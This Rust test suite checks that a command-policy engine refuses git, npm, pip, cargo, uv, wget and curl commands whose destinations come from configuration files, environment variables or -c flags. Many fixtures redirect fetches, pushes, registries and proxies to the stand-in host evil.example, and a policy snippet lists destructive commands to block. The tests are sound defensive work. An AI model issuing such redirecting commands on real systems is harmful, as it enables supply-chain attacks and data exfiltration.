//! Destinations a tool takes from its configuration files are judged by
//! the network guard as a literal URL is (docs/commands.md, "Network
//! destinations").

use std::path::{Path, PathBuf};

use crate::engine::Engine;
use crate::policy::tests::WORKSPACE_JSON;

struct Fixture {
    _dir: tempfile::TempDir,
    ws: PathBuf,
    home: PathBuf,
}

impl Fixture {
    fn file(&self, rel: &str, text: &str) {
        let p = if let Some(r) = rel.strip_prefix("~/") {
            self.home.join(r)
        } else {
            self.ws.join(rel)
        };
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
}

/// A workspace that is a git repository whose `origin` is on github.com,
/// and an empty home.
fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let root = std::fs::canonicalize(dir.path()).unwrap();
    let ws = root.join("ws");
    let home = root.join("home");
    std::fs::create_dir_all(ws.join(".git/objects")).unwrap();
    std::fs::create_dir_all(&home).unwrap();
    let f = Fixture {
        _dir: dir,
        ws,
        home,
    };
    f.file(".git/HEAD", "ref: refs/heads/main\n");
    f.file(
        ".git/config",
        "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://github.com/org/r.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n",
    );
    f.file("package.json", "{}\n");
    f
}

fn engine(f: &Fixture, policy: &str) -> Engine {
    Engine::from_json(policy, &f.ws, Path::new(&f.home)).unwrap()
}

fn whitelist() -> String {
    let wl = WORKSPACE_JSON.replace(
        "\"mode\": \"blacklist\", \"blocked_commands\": [\"sudo\", \"rm -rf /\", \"dd\", \"mkfs\"]",
        "\"mode\": \"whitelist\", \"allowed_commands\": [\"curl\", \"wget\", \"git\", \"npm\", \"pip\", \"cargo\"]",
    );
    assert_ne!(wl, WORKSPACE_JSON);
    wl
}

fn disabled() -> String {
    let off = WORKSPACE_JSON.replace("\"enabled\": true", "\"enabled\": false");
    assert_ne!(off, WORKSPACE_JSON);
    off
}

#[track_caller]
fn assert_decides(e: &Engine, cmd: &str, verdict: &str, code: &str) {
    let a = e.analyze_command(cmd);
    assert_eq!(
        (a.verdict, a.code),
        (verdict, code),
        "{cmd}: {} ({:?})",
        a.reason,
        a.findings
    );
}

/// The command is denied with `code` and the message names `what` and
/// the file it came from.
#[track_caller]
fn assert_refused(e: &Engine, cmd: &str, code: &str, what: &str, file: &str) {
    let a = e.analyze_command(cmd);
    assert_eq!((a.verdict, a.code), ("deny", code), "{cmd}: {}", a.reason);
    assert!(
        a.reason.contains(what) && a.reason.contains(file),
        "{cmd}: the message names {what} and {file}: {}",
        a.reason
    );
}

#[track_caller]
fn assert_not_allowed(e: &Engine, cmd: &str, verdict: &str) {
    let a = e.analyze_command(cmd);
    assert_eq!(
        (a.verdict, a.code),
        (verdict, "UNMODELLED_OPERAND"),
        "{cmd}: {} ({:?})",
        a.reason,
        a.findings
    );
}

#[test]
fn a_git_remote_given_by_name_is_judged_by_its_configured_url() {
    let f = fixture();
    f.file(
        ".git/config",
        "[remote \"origin\"]\n\turl = https://github.com/org/r.git\n[remote \"upstream\"]\n\turl = https://evil.example/r.git\n[remote \"mirror\"]\n\turl = https://github.com/org/r.git\n\tpushurl = git@evil.example:r.git\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "git fetch upstream",
        "git pull upstream main",
        "git push upstream main",
        "git fetch --all",
        "git remote update",
        "git ls-remote upstream",
    ] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", ".git/config");
    }
    assert_refused(
        &e,
        "git push mirror main",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        "pushurl",
    );
    for cmd in [
        "git fetch origin",
        "git pull",
        "git push origin main",
        "git fetch mirror",
        "git status",
    ] {
        assert_decides(&e, cmd, "allow", "ALLOWED");
    }
    let wl = engine(&f, &whitelist());
    assert_refused(
        &wl,
        "git fetch upstream",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        ".git/config",
    );
}

#[test]
fn the_default_remote_of_a_fetch_pull_or_push_is_judged() {
    let f = fixture();
    f.file(
        ".git/config",
        "[remote \"origin\"]\n\turl = https://evil.example/r.git\n[branch \"main\"]\n\tremote = origin\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "git pull",
        "git fetch",
        "git push",
        "git pull --rebase",
        "git fetch origin",
    ] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", ".git/config");
    }
    // The branch's own remote, and a push remote.
    f.file(
        ".git/config",
        "[remote \"origin\"]\n\turl = https://github.com/org/r.git\n[remote \"up\"]\n\turl = https://evil.example/r.git\n[branch \"main\"]\n\tremote = up\n",
    );
    assert_refused(
        &e,
        "git pull",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        ".git/config",
    );
    f.file(
        ".git/config",
        "[remote \"origin\"]\n\turl = https://github.com/org/r.git\n[remote \"up\"]\n\turl = https://evil.example/r.git\n[remote]\n\tpushDefault = up\n",
    );
    assert_refused(
        &e,
        "git push",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        ".git/config",
    );
    assert_decides(&e, "git pull", "allow", "ALLOWED");
}

#[test]
fn insteadof_rules_of_the_repository_and_the_home_are_applied() {
    let f = fixture();
    f.file(
        "~/.gitconfig",
        "[url \"https://evil.example/\"]\n\tinsteadOf = https://github.com/\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "git clone https://github.com/org/r",
        "git fetch origin",
        "git pull",
        "git fetch https://github.com/org/r",
    ] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", ".gitconfig");
    }
    // In the repository's configuration, through an include, for a push.
    let f = fixture();
    f.file(
        ".git/extra.cfg",
        "[url \"https://evil.example/\"]\n\tpushInsteadOf = https://github.com/\n",
    );
    f.file(
        ".git/config",
        "[remote \"origin\"]\n\turl = https://github.com/org/r.git\n[include]\n\tpath = extra.cfg\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    assert_refused(
        &e,
        "git push origin main",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        "extra.cfg",
    );
    assert_decides(&e, "git fetch origin", "allow", "ALLOWED");
    // `~/.config/git/config` and a proxy.
    let f = fixture();
    f.file(
        "~/.config/git/config",
        "[http]\n\tproxy = https://evil.example:3128\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    assert_refused(
        &e,
        "git fetch origin",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        ".config/git/config",
    );
    // A rewrite to an allowed place is followed too.
    let f = fixture();
    f.file(
        "~/.gitconfig",
        "[url \"https://github.com/\"]\n\tinsteadOf = gh:\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    assert_decides(&e, "git clone gh:org/r", "allow", "ALLOWED");
}

#[test]
fn git_configuration_that_cannot_be_read_leaves_the_remote_unknown() {
    let f = fixture();
    f.file(
        ".git/config",
        "[remote \"origin\"]\n\turl = https://github.com/org/r.git\n[include]\n\tpath = ../gitremotes.cfg\n",
    );
    f.file("gitremotes.cfg", "\n");
    let e = engine(&f, WORKSPACE_JSON);
    assert_decides(&e, "git fetch origin", "allow", "ALLOWED");
    // An included file written earlier in the same command.
    assert_not_allowed(&e, "cp build/cfg gitremotes.cfg; git fetch origin", "ask");
    // A clone reads the user's configuration, not the repository's.
    assert_decides(
        &e,
        "cp build/cfg gitremotes.cfg; git clone https://github.com/o/r",
        "allow",
        "ALLOWED",
    );
    f.file("~/.gitconfig", "[include]\n\tpath = ../ws/gitremotes.cfg\n");
    assert_not_allowed(
        &e,
        "cp build/cfg gitremotes.cfg; git clone https://github.com/o/r",
        "ask",
    );
    // An include the analysis does not follow (another user's home).
    f.file(
        ".git/config",
        "[remote \"origin\"]\n\turl = https://github.com/org/r.git\n[include]\n\tpath = ~other/remotes.cfg\n",
    );
    assert_not_allowed(&e, "git fetch origin", "ask");
    assert_not_allowed(&e, "git pull", "ask");
    let wl = engine(&f, &whitelist());
    assert_not_allowed(&wl, "git fetch origin", "deny");
    // A network policy that refuses no public destination has nothing to
    // ask about.
    let open = WORKSPACE_JSON
        .replace("[\"registry.npmjs.org\", \"github.com\"]", "null")
        .replace("\"allow_http\": false", "\"allow_http\": true");
    let e = engine(&f, &open);
    assert_decides(&e, "git fetch origin", "allow", "ALLOWED");
}

#[test]
fn a_disabled_network_refuses_a_fetch_from_a_configured_remote() {
    let f = fixture();
    let e = engine(&f, &disabled());
    for cmd in [
        "git fetch origin",
        "git pull",
        "git push",
        "git push origin main",
    ] {
        assert_refused(&e, cmd, "NETWORK_DISABLED", "github.com", ".git/config");
    }
    for cmd in [
        "git status",
        "git log --oneline -n 5",
        "git diff",
        "git commit -m x",
    ] {
        assert_decides(&e, cmd, "allow", "ALLOWED");
    }
}

#[test]
fn the_npm_registry_of_npmrc_is_judged_for_a_fetch() {
    let f = fixture();
    f.file(".npmrc", "registry=https://evil.example/\n");
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "npm install left-pad",
        "npm ci",
        "npm install",
        "pnpm add left-pad",
    ] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", ".npmrc");
    }
    // A run of the project's scripts fetches nothing.
    for cmd in ["npm test", "npm run build", "npm ls"] {
        assert_decides(&e, cmd, "allow", "ALLOWED");
    }
    // A scoped registry, in the user's file.
    let f = fixture();
    f.file("~/.npmrc", "@corp:registry=https://evil.example/\n");
    let e = engine(&f, WORKSPACE_JSON);
    assert_refused(
        &e,
        "npm install @corp/x",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        ".npmrc",
    );
    assert_decides(&e, "npm install left-pad", "allow", "ALLOWED");
    let wl = engine(&f, &whitelist());
    assert_refused(
        &wl,
        "npm install @corp/x",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        ".npmrc",
    );
    // The built-in default is not judged: the policy's own executor and
    // proxy refuse it where the network policy does.
    let f = fixture();
    let e = engine(&f, WORKSPACE_JSON);
    assert_decides(&e, "npm install left-pad", "allow", "ALLOWED");
    assert_decides(&e, "npm install", "allow", "ALLOWED");
    let off = engine(&f, &disabled());
    assert_decides(&off, "npm test", "allow", "ALLOWED");
}

#[test]
fn the_pip_index_of_pip_conf_is_judged() {
    let f = fixture();
    f.file(
        "~/.config/pip/pip.conf",
        "[global]\nindex-url = https://evil.example/simple\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "pip install requests",
        "pip3 install -r requirements.txt",
        "python3 -m pip install requests",
        "pip download x",
    ] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", "pip.conf");
    }
    assert_decides(&e, "pip list", "allow", "ALLOWED");
    assert_decides(&e, "pip freeze", "allow", "ALLOWED");
    // In the workspace's virtual environment, as a continued value.
    let f = fixture();
    f.file(
        ".venv/pip.conf",
        "[install]\nextra_index_url =\n    https://github.com/simple\n    https://evil.example/simple\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    assert_refused(
        &e,
        "pip install -i https://github.com/simple x",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        ".venv/pip.conf",
    );
    let wl = engine(&f, &whitelist());
    assert_refused(
        &wl,
        "pip install requests",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        "pip.conf",
    );
    // `--no-index`: the configured index is not used.
    assert_decides(
        &e,
        "pip install --no-index -r requirements.txt",
        "allow",
        "ALLOWED",
    );
    let off = engine(&f, &disabled());
    assert_refused(
        &off,
        "pip install requests",
        "NETWORK_DISABLED",
        "github.com",
        ".venv/pip.conf",
    );
}

#[test]
fn cargo_and_uv_registries_of_their_configuration_are_judged() {
    let f = fixture();
    f.file(
        ".cargo/config.toml",
        "[source.crates-io]\nreplace-with = \"mirror\"\n\n[source.mirror]\nregistry = \"sparse+https://evil.example/index/\"\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "cargo build",
        "cargo fetch",
        "cargo test --release",
        "cargo update",
    ] {
        assert_refused(
            &e,
            cmd,
            "DOMAIN_NOT_ALLOWED",
            "evil.example",
            ".cargo/config.toml",
        );
    }
    assert_decides(&e, "cargo fmt", "allow", "ALLOWED");
    assert_decides(&e, "cargo build --offline", "allow", "ALLOWED");
    let f = fixture();
    f.file(
        "~/.cargo/config.toml",
        "[registries.corp]\nindex = \"https://evil.example/git/index\"\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    assert_refused(
        &e,
        "cargo build",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        "config.toml",
    );
    // Without configuration, a build fetches from crates.io only what is
    // missing: not judged.
    let f = fixture();
    let e = engine(&f, WORKSPACE_JSON);
    assert_decides(&e, "cargo build", "allow", "ALLOWED");

    let f = fixture();
    f.file(
        "pyproject.toml",
        "[project]\nname = \"x\"\n[project.urls]\nHomepage = \"https://example.org/\"\n\n[[tool.uv.index]]\nname = \"corp\"\nurl = \"https://evil.example/simple\"\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "uv sync",
        "uv add requests",
        "uv pip install requests",
        "uv lock",
    ] {
        assert_refused(
            &e,
            cmd,
            "DOMAIN_NOT_ALLOWED",
            "evil.example",
            "pyproject.toml",
        );
    }
    let f = fixture();
    f.file("uv.toml", "index-url = \"https://evil.example/simple\"\n");
    let e = engine(&f, WORKSPACE_JSON);
    assert_refused(
        &e,
        "uv sync",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        "uv.toml",
    );
    // A project URL outside `[tool.uv]` is no index.
    let f = fixture();
    f.file(
        "pyproject.toml",
        "[project]\nname = \"x\"\n[project.urls]\nHomepage = \"https://evil.example/\"\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    assert_ne!(e.analyze_command("uv sync").code, "DOMAIN_NOT_ALLOWED");
}

#[test]
fn urls_read_from_a_file_or_set_by_wget_e_are_judged() {
    let f = fixture();
    f.file(
        "urls.txt",
        "https://github.com/org/r/a.zip\n\nhttps://evil.example/payload\n",
    );
    f.file("ok.txt", "https://github.com/org/r/a.zip\n");
    f.file(
        "curl.cfg",
        "silent\nurl = \"https://evil.example/x\"\noutput = build/x\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "wget -i urls.txt",
        "wget --input-file=urls.txt",
        "wget -nv -iurls.txt",
        "wget -e input=urls.txt",
    ] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", "urls.txt");
    }
    assert_refused(
        &e,
        "curl -K curl.cfg",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        "curl.cfg",
    );
    assert_decides(&e, "wget -O build/o -i ok.txt", "allow", "ALLOWED");
    assert_refused(
        &e,
        "wget -e use_proxy=on -e https_proxy=https://evil.example:3128 https://github.com/x",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        "https_proxy",
    );
    // Standard input, a file written earlier, a missing one, a computed one.
    for cmd in [
        "wget -i - < ok.txt",
        "cp urls.txt build/u.txt; wget -i build/u.txt",
        "wget -i missing.txt",
        "wget -i \"$LIST\"",
        "wget -e \"$CMD\" https://github.com/x",
    ] {
        let a = e.analyze_command(cmd);
        assert_ne!(a.verdict, "allow", "{cmd}: {}", a.reason);
        assert!(a.code.starts_with("UNMODELLED_"), "{cmd}: {}", a.code);
    }
}

#[test]
fn git_configuration_given_on_the_command_line_or_in_the_environment_is_not_allowed() {
    let f = fixture();
    let e = engine(&f, WORKSPACE_JSON);
    assert_decides(&e, "git fetch origin", "allow", "ALLOWED");
    // `-c` and `--config-env` set configuration that can run programs or
    // send the fetch elsewhere: refused whatever they set.
    for cmd in [
        "git -c url.https://evil.example/.insteadOf=https://github.com/ fetch origin",
        "git -c remote.origin.url=https://evil.example/r fetch",
        "git -c http.proxy=http://evil.example:3128 clone https://github.com/o/r",
        "git -c http.https://github.com/.proxy=http://evil.example:3128 fetch",
        "git --config-env=http.proxy=PROXY fetch",
        "git -c \"$KV\" fetch",
    ] {
        assert_decides(&e, cmd, "deny", "DANGEROUS_FLAG");
    }
    // The environment forms of the same, and proxies for any network tool.
    for cmd in [
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.proxy GIT_CONFIG_VALUE_0=http://evil.example:3128 git fetch",
        "GIT_CONFIG_PARAMETERS=\"'http.proxy'='http://evil.example:3128'\" git fetch",
        "GIT_CONFIG_GLOBAL=build/gitconfig git fetch",
        "GIT_CONFIG_SYSTEM=build/gitconfig git pull",
        "GIT_CONFIG_NOSYSTEM=1 git fetch",
        "export GIT_CONFIG_COUNT=1; git fetch",
        "https_proxy=http://evil.example:3128 git fetch",
        "HTTPS_PROXY=http://evil.example:3128 git clone https://github.com/o/r",
        "ALL_PROXY=socks5://evil.example:1080 curl https://github.com/",
        "http_proxy=http://evil.example:3128 wget https://github.com/x",
        "export https_proxy=http://evil.example:3128; git fetch",
        "env https_proxy=http://evil.example:3128 curl https://github.com/",
    ] {
        assert_decides(&e, cmd, "ask", "DANGEROUS_ENVIRONMENT");
    }
    let wl = engine(&f, &whitelist());
    assert_decides(
        &wl,
        "https_proxy=http://evil.example:3128 git fetch",
        "deny",
        "DANGEROUS_ENVIRONMENT",
    );
}

/// The fixture with a submodule `lib` whose URL is `url` in `.gitmodules`.
fn with_gitmodules(url: &str) -> Fixture {
    let f = fixture();
    f.file(
        ".gitmodules",
        &format!("[submodule \"lib\"]\n\tpath = lib\n\turl = {url}\n"),
    );
    f
}

#[test]
fn submodule_urls_of_gitmodules_are_judged() {
    let f = with_gitmodules("https://evil.example/lib.git");
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "git submodule update --init",
        "git submodule update --init --remote",
        "git submodule --quiet update --init lib",
        "git submodule init",
        "git submodule sync",
        "git submodule sync --recursive",
    ] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", ".gitmodules");
    }
    let wl = engine(&f, &whitelist());
    assert_refused(
        &wl,
        "git submodule update --init",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        ".gitmodules",
    );
    // Not initialized: a plain update or fetch does not reach it.
    for cmd in [
        "git submodule update",
        "git fetch",
        "git pull",
        "git submodule status",
    ] {
        assert_decides(&e, cmd, "allow", "ALLOWED");
    }
    // scp-like and ssh URLs are judged by their host.
    let f = with_gitmodules("git@evil.example:org/lib.git");
    let e = engine(&f, WORKSPACE_JSON);
    assert_refused(
        &e,
        "git submodule update --init",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        ".gitmodules",
    );
    // The ordinary case: submodules on an allowed host, absolute or
    // relative to the superproject's remote.
    for url in [
        "https://github.com/org/lib.git",
        "../lib.git",
        "./lib.git",
        "../../other/lib.git",
    ] {
        let f = with_gitmodules(url);
        let e = engine(&f, WORKSPACE_JSON);
        for cmd in [
            "git submodule update --init",
            "git submodule sync",
            "git submodule init",
            "git fetch",
        ] {
            assert_decides(&e, cmd, "allow", "ALLOWED");
        }
    }
}

#[test]
fn relative_and_unreadable_submodule_urls_are_not_known() {
    // A relative URL that climbs above the remote's host.
    let f = with_gitmodules("../../../lib.git");
    let e = engine(&f, WORKSPACE_JSON);
    assert_not_allowed(&e, "git submodule update --init", "ask");
    let wl = engine(&f, &whitelist());
    assert_not_allowed(&wl, "git submodule update --init", "deny");
    // A relative URL against an origin on a refused host.
    let f = with_gitmodules("../lib.git");
    f.file(
        ".git/config",
        "[remote \"origin\"]\n\turl = https://github.com/org/r.git\n[remote \"up\"]\n\turl = https://evil.example/org/r.git\n[branch \"main\"]\n\tremote = up\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    assert_refused(
        &e,
        "git submodule update --init",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        ".gitmodules",
    );
    // `.gitmodules` written, or possibly changed by a fetch or checkout,
    // earlier in the same command.
    let f = with_gitmodules("https://github.com/org/lib.git");
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "cp build/m .gitmodules; git submodule update --init",
        "git pull && git submodule update --init",
        "git checkout other && git submodule update --init",
        "git clone https://github.com/o/r && git submodule update --init",
    ] {
        let a = e.analyze_command(cmd);
        assert_ne!(a.verdict, "allow", "{cmd}: {}", a.reason);
        assert!(a.code.starts_with("UNMODELLED_"), "{cmd}: {}", a.code);
    }
    assert_decides(&e, "git submodule update --init", "allow", "ALLOWED");
    // A checkout changes no submodule URL a fetch reads (the
    // configuration and the submodules' repositories).
    assert_decides(&e, "git checkout main && git pull", "allow", "ALLOWED");
}

#[test]
fn initialized_submodules_are_judged_for_a_fetch_pull_or_update() {
    let f = fixture();
    f.file(
        ".git/config",
        "[remote \"origin\"]\n\turl = https://github.com/org/r.git\n[branch \"main\"]\n\tremote = origin\n[submodule \"lib\"]\n\turl = https://evil.example/lib.git\n\tactive = true\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "git submodule update",
        "git fetch",
        "git pull",
        "git pull --recurse-submodules",
        "git fetch origin --recurse-submodules=yes",
    ] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", ".git/config");
    }
    // Recursion turned off: the superproject alone.
    for cmd in [
        "git fetch --no-recurse-submodules",
        "git pull --recurse-submodules=no",
        "git status",
    ] {
        assert_decides(&e, cmd, "allow", "ALLOWED");
    }
    // The remote of the submodule's own repository, below .git/modules.
    let f = fixture();
    f.file("lib/.git", "gitdir: ../.git/modules/lib\n");
    f.file(".git/modules/lib/HEAD", "ref: refs/heads/main\n");
    f.file(
        ".git/modules/lib/config",
        "[remote \"origin\"]\n\turl = https://evil.example/lib.git\n",
    );
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in ["git fetch", "git pull", "git submodule update --remote"] {
        assert_refused(
            &e,
            cmd,
            "DOMAIN_NOT_ALLOWED",
            "evil.example",
            "modules/lib/config",
        );
    }
    f.file(
        ".git/modules/lib/config",
        "[remote \"origin\"]\n\turl = https://github.com/org/lib.git\n",
    );
    for cmd in ["git fetch", "git pull", "git submodule update --remote"] {
        assert_decides(&e, cmd, "allow", "ALLOWED");
    }
}

#[test]
fn recursive_submodules_and_clones_with_recursion() {
    // A clone's submodules are in the repository it fetches: not known.
    let f = fixture();
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "git clone --recurse-submodules https://github.com/o/r",
        "git clone --recursive https://github.com/o/r",
        "git clone --recurse-submodules=lib https://github.com/o/r",
    ] {
        assert_not_allowed(&e, cmd, "ask");
    }
    let wl = engine(&f, &whitelist());
    assert_not_allowed(&wl, "git clone --recursive https://github.com/o/r", "deny");
    assert_decides(&e, "git clone https://github.com/o/r", "allow", "ALLOWED");
    // Nested submodules: of a submodule not checked out yet, not known;
    // of one checked out, its own .gitmodules is read.
    let f = with_gitmodules("https://github.com/org/lib.git");
    let e = engine(&f, WORKSPACE_JSON);
    assert_not_allowed(&e, "git submodule update --init --recursive", "ask");
    f.file("lib/.git", "gitdir: ../.git/modules/lib\n");
    assert_decides(
        &e,
        "git submodule update --init --recursive",
        "allow",
        "ALLOWED",
    );
    f.file(
        "lib/.gitmodules",
        "[submodule \"deep\"]\n\tpath = deep\n\turl = ../evil-redirect.git\n[submodule \"x\"]\n\tpath = x\n\turl = https://evil.example/x.git\n",
    );
    assert_refused(
        &e,
        "git submodule update --init --recursive",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        "lib/.gitmodules",
    );
    // `foreach` runs a shell command.
    assert_decides(
        &e,
        "git submodule foreach git pull",
        "deny",
        "DANGEROUS_FLAG",
    );
}

#[test]
fn npm_proxies_and_scoped_registries_are_judged() {
    let f = fixture();
    f.file(".npmrc", "https-proxy=https://evil.example:3128/\n");
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "npm install",
        "npm ci",
        "npm install left-pad",
        "pnpm add left-pad",
    ] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", ".npmrc");
    }
    assert_decides(&e, "npm test", "allow", "ALLOWED");
    // Without a scheme: an http proxy (the policy refuses plain http).
    let f = fixture();
    f.file("~/.npmrc", "proxy=evil.example:8080\n");
    let e = engine(&f, WORKSPACE_JSON);
    assert_refused(
        &e,
        "npm install",
        "SCHEME_NOT_ALLOWED",
        "evil.example",
        ".npmrc",
    );
    f.file("~/.npmrc", "proxy=https://evil.example:8080\n");
    let wl = engine(&f, &whitelist());
    assert_refused(
        &wl,
        "npm install",
        "DOMAIN_NOT_ALLOWED",
        "evil.example",
        ".npmrc",
    );
    // No proxy.
    let f = fixture();
    f.file(".npmrc", "proxy=false\nsave-exact=true\n");
    let e = engine(&f, WORKSPACE_JSON);
    assert_decides(&e, "npm install", "allow", "ALLOWED");
    // A scope's registry, for a project whose manifest or lockfile names
    // a package of the scope.
    let f = fixture();
    f.file("~/.npmrc", "@corp:registry=https://evil.example/\n");
    let e = engine(&f, WORKSPACE_JSON);
    assert_decides(&e, "npm install", "allow", "ALLOWED");
    f.file(
        "package.json",
        "{\"dependencies\": {\"@corp/x\": \"1.0.0\"}}\n",
    );
    for cmd in ["npm install", "npm ci", "npm install left-pad"] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", ".npmrc");
    }
    // On the command line and in the environment: not modelled.
    let f = fixture();
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "npm install --proxy http://evil.example:3128 left-pad",
        "npm install --https-proxy=http://evil.example:3128",
    ] {
        assert_decides(&e, cmd, "ask", "UNMODELLED_OPTION");
    }
    for cmd in [
        "npm_config_proxy=http://evil.example:3128 npm install",
        "npm_config_https_proxy=http://evil.example:3128 npm ci",
        "NPM_CONFIG_HTTPS_PROXY=http://evil.example:3128 npm install",
    ] {
        assert_decides(&e, cmd, "ask", "DANGEROUS_ENVIRONMENT");
    }
    // yarn's registry and proxies of `.yarnrc.yml`.
    for text in [
        "npmRegistryServer: \"https://evil.example\"\n",
        "httpsProxy: https://evil.example:3128\n",
    ] {
        let f = fixture();
        f.file(".yarnrc.yml", text);
        let e = engine(&f, WORKSPACE_JSON);
        assert_refused(
            &e,
            "yarn install",
            "DOMAIN_NOT_ALLOWED",
            "evil.example",
            ".yarnrc.yml",
        );
        assert_decides(&e, "yarn test", "allow", "ALLOWED");
    }
    let f = fixture();
    f.file(".yarnrc.yml", "npmRegistryServer: \"${REGISTRY}\"\n");
    let e = engine(&f, WORKSPACE_JSON);
    assert_not_allowed(&e, "yarn install", "ask");
}

#[test]
fn pip_proxies_indexes_and_requirement_files_are_judged() {
    let f = fixture();
    f.file(
        "req.txt",
        "requests==2.31\nflask[async]>=2 ; python_version >= '3.8'\n",
    );
    f.file(
        "idx.txt",
        "--index-url https://evil.example/simple\nrequests\n",
    );
    f.file(
        "extra.txt",
        "--extra-index-url https://evil.example/simple\nrequests\n",
    );
    f.file("links.txt", "-f https://evil.example/wheels/\nrequests\n");
    f.file("constraints.txt", "-i https://evil.example/simple\n");
    f.file("direct.txt", "x @ https://evil.example/x.whl\n");
    f.file("vcs.txt", "git+https://evil.example/r.git#egg=x\n");
    f.file(
        "editable.txt",
        "-e git+ssh://git@evil.example/r.git#egg=x\n",
    );
    f.file("allowed-direct.txt", "x @ https://github.com/o/r/x.whl\n");
    let e = engine(&f, WORKSPACE_JSON);
    for cmd in [
        "pip install -r req.txt",
        "pip install requests",
        "pip install -r req.txt -c req.txt",
    ] {
        assert_decides(&e, cmd, "allow", "ALLOWED");
    }
    for cmd in [
        "pip install -r idx.txt",
        "pip install -r extra.txt",
        "pip install -r links.txt",
        "pip install -r req.txt -c constraints.txt",
    ] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", ".txt");
    }
    // A direct URL requirement: its host is judged; on an allowed host it
    // still asks (what it builds is not known).
    for (cmd, file) in [
        ("pip install -r direct.txt", "direct.txt"),
        ("pip install -r vcs.txt", "vcs.txt"),
        ("pip install -r editable.txt", "editable.txt"),
    ] {
        assert_refused(&e, cmd, "DOMAIN_NOT_ALLOWED", "evil.example", file);
    }
    assert_not_allowed(&e, "pip install -r allowed-direct.txt", "ask");
    for cmd in [
        "pip install --proxy http://evil.example:3128 requests",
        "pip --proxy http://evil.example:3128 install requests",
        "pip install --proxy=http://evil.example:3128 -r req.txt",
    ] {
        assert_decides(&e, cmd, "ask", "UNMODELLED_OPTION");
    }
    for cmd in [
        "PIP_PROXY=http://evil.example:3128 pip install requests",
        "PIP_INDEX_URL=https://evil.example/simple pip install requests",
        "PIP_EXTRA_INDEX_URL=https://evil.example/simple pip install requests",
        "PIP_FIND_LINKS=https://evil.example/w pip install requests",
        "export PIP_INDEX_URL=https://evil.example/simple; pip install requests",
    ] {
        assert_decides(&e, cmd, "ask", "DANGEROUS_ENVIRONMENT");
    }
    let wl = engine(&f, &whitelist());
    assert_decides(
        &wl,
        "pip install --proxy http://evil.example:3128 requests",
        "deny",
        "UNMODELLED_OPTION",
    );
}
